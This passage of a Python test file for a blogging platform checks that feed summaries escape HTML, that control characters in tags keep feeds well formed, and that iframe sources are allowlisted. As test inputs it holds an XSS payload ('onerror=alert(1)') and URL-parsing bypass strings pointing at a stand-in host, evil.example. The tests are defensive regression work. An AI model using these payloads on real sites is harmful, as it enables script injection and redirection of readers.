    assert CONTROL_HTML in html and 'style="color: red"' in html
    assert "url(" not in html and "evil" not in html
    new_tabs = re.findall(r"<a [^>]*target=[^>]*>", html)
    assert len(new_tabs) == 3 and all('noopener"' in link for link in new_tabs), new_tabs
    assert "opener me" not in html and 'rel="me noopener"' in html
    frames = re.findall(r'<iframe [^>]*src="([^"]+)"', html)
    assert frames == ["https://player.vimeo.com/video/1"]


# --- Holes this corpus found, each pinned by a test of its own


def test_a_post_description_is_text_in_atom_summaries_of_blog_and_discovery_feeds(
    make_blogger, no_page_cache
):
    """Django marks an Atom summary ``type="html"``: a raw description ran in feed readers."""
    blog = make_blogger("summaries", title="Summaries")
    description = "<img src=x onerror=alert(1)> & more"
    add_post(blog, "post", "A post", CONTROL + LONG_ENOUGH, meta_description=description)
    set_blog_flags(blog, reviewed=True)
    for client, url in (
        (host_client(blog), "/feed/"),
        (host_client("localhost"), "/discover/feed/"),
    ):
        root = ElementTree.fromstring(client.get(url).content)
        (summary,) = root.iter(f"{ATOM}summary")
        assert summary.get("type") == "html"
        assert summary.text == "&lt;img src=x onerror=alert(1)&gt; &amp; more"


def test_a_tag_with_a_control_character_leaves_the_feed_well_formed(make_blogger, no_page_cache):
    """Tags reached the XML unfiltered: one form feed in a tag made every feed reader fail."""
    blog = make_blogger("controls", title="Controls")
    add_post(blog, "post", "A post", "Text", tags=["form\x0cfeed", "fine"])
    for query in ("", "?type=rss"):
        root = ElementTree.fromstring(host_client(blog).get(f"/feed/{query}").content)
        terms = [e.get("term") or e.text for e in root.iter() if e.tag.endswith("category")]
        assert sorted(terms) == ["fine", "formfeed"]


def test_iframe_addresses_a_browser_reads_otherwise_never_reach_a_reader(
    make_blogger, no_page_cache
):
    """``urlsplit`` finds www.youtube.com in each of these; a browser reads ``\\`` as
    ``/`` (so goes to evil.example) and drops tabs: the checker, which uses ``urlsplit``
    too, cannot tell. No frame from any of them may be on the page."""
    blog = make_blogger("frames", title="Frames")
    sources = [
        "https://evil.example\\@www.youtube.com/x",
        "https://evil.example&#92;@www.youtube.com/x",
        "https://evil.example\\www.youtube.com/x",
        "https://user@www.youtube.com/x",
        "https://www.youtube.com:8443/x",
        "https://www.you&#9;tube.com/x",
        "https://www.youtube.com/x&#10;y",
    ]
    body = "\n\n".join([*(f'<iframe src="{src}"></iframe>' for src in sources), CONTROL])
    add_post(blog, "frames", "Frames", body)
    html = Findings().check_response("post", host_client(blog).get("/frames/"))
    assert CONTROL_HTML in html and "<iframe" not in html and "evil" not in html
